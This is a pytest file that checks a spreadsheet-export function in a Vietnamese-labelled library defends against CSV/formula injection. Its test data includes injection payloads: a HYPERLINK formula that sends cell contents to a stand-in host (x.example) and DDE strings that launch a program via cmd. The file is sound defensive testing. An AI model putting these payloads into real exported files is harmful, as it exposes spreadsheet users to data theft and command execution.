"""export_selection (cchc_lib.explore.export): the tables shown, to Excel or CSV, where no cell
can run as a formula (OWASP "CSV injection") and numbers stay numbers."""

from __future__ import annotations

import pandas as pd
import pytest
from openpyxl import load_workbook

from cchc_lib.assessment.engine import assess
from cchc_lib.explore.export import export_selection
from cchc_lib.explore.filters import selection

ATTACKS = [
    '=HYPERLINK("http://x.example/?d="&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def a(plan, sample_progress):
    return assess(plan, sample_progress, "2024-Q2", "nd09")


def _frames():
    targets = pd.DataFrame(
        {
            "Mã": [f"X{i}" for i in range(len(ATTACKS))] + ["Y1", "Y2"],
            "Nội dung": ATTACKS + ["Bình thường", "-5"],
            "Giá trị": [1.5, -2.0, -0.25, 0.0, 3.0, -7.0, -12.5, 42.0],
            "_status": ["met"] * (len(ATTACKS) + 2),
        }
    )
    tasks = pd.DataFrame({"Mã": ["K1"], "Minh chứng": ["=1+1"], "Số": [-3]})
    return targets, tasks


@pytest.mark.slow
def test_export_selection_writes_the_two_sheets_of_the_selection(a, tmp_path):
    t, k = selection(a, area="II.1")
    (path,) = export_selection(t, k, tmp_path, "xlsx", stem="x")
    book = pd.read_excel(path, sheet_name=None, dtype=str, keep_default_na=False)
    assert list(book) == ["Chỉ tiêu", "Nhiệm vụ"]
    assert book["Chỉ tiêu"]["Mã"].tolist() == a.targets.loc[a.targets["area_id"] == "II.1", "target_id"].tolist()
    assert "_status" not in book["Chỉ tiêu"].columns
    with pytest.raises(ValueError):
        export_selection(t, k, tmp_path, "pdf")


def test_xlsx_keeps_formula_like_text_as_text_and_numbers_as_numbers(tmp_path):
    targets, tasks = _frames()
    (path,) = export_selection(targets, tasks, tmp_path, "xlsx", info={"Bộ lọc": "=1+2"})
    wb = load_workbook(path)
    ws = wb["Chỉ tiêu"]
    for row, attack in enumerate(ATTACKS, start=2):
        cell = ws.cell(row, 2)
        assert cell.value in (attack, attack.replace("\r", "\n"))  # as entered (a reader may give CR back as LF)
        assert cell.data_type == "s" and cell.quotePrefix, attack  # Excel's typed-with-a-leading-' text
    plain = ws.cell(len(ATTACKS) + 2, 2)
    assert plain.value == "Bình thường" and not plain.quotePrefix
    values = [ws.cell(r, 3) for r in range(2, len(ATTACKS) + 4)]
    assert [c.value for c in values] == targets["Giá trị"].tolist()
    assert all(c.data_type == "n" and not c.quotePrefix for c in values)  # -2.0 is still a number
    k = wb["Nhiệm vụ"]
    assert k.cell(2, 2).quotePrefix and k.cell(2, 3).value == -3 and k.cell(2, 3).data_type == "n"
    info = wb["Thông tin"]
    assert info.cell(2, 2).value == "=1+2" and info.cell(2, 2).data_type == "s" and info.cell(2, 2).quotePrefix


def test_xlsx_written_without_the_defence_would_hold_live_formulas(tmp_path):
    """The check above can fail: pandas alone writes "=…" text as a formula."""
    targets, _ = _frames()
    path = tmp_path / "raw.xlsx"
    targets.to_excel(path, index=False)
    assert load_workbook(path).active.cell(2, 2).data_type == "f"


def test_csv_puts_a_quote_before_formula_like_text_only(tmp_path):
    targets, tasks = _frames()
    csv_t, csv_k = export_selection(targets, tasks, tmp_path, "csv", stem="s")
    back = pd.read_csv(csv_t, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert back["Nội dung"].tolist() == ["'" + x for x in ATTACKS] + ["Bình thường", "-5"]
    nums = pd.read_csv(csv_t, encoding="utf-8-sig")["Giá trị"]
    assert pd.api.types.is_float_dtype(nums) and nums.tolist() == targets["Giá trị"].tolist()
    assert pd.read_csv(csv_k, dtype=str, encoding="utf-8-sig").iloc[0].tolist() == ["K1", "'=1+1", "-3"]
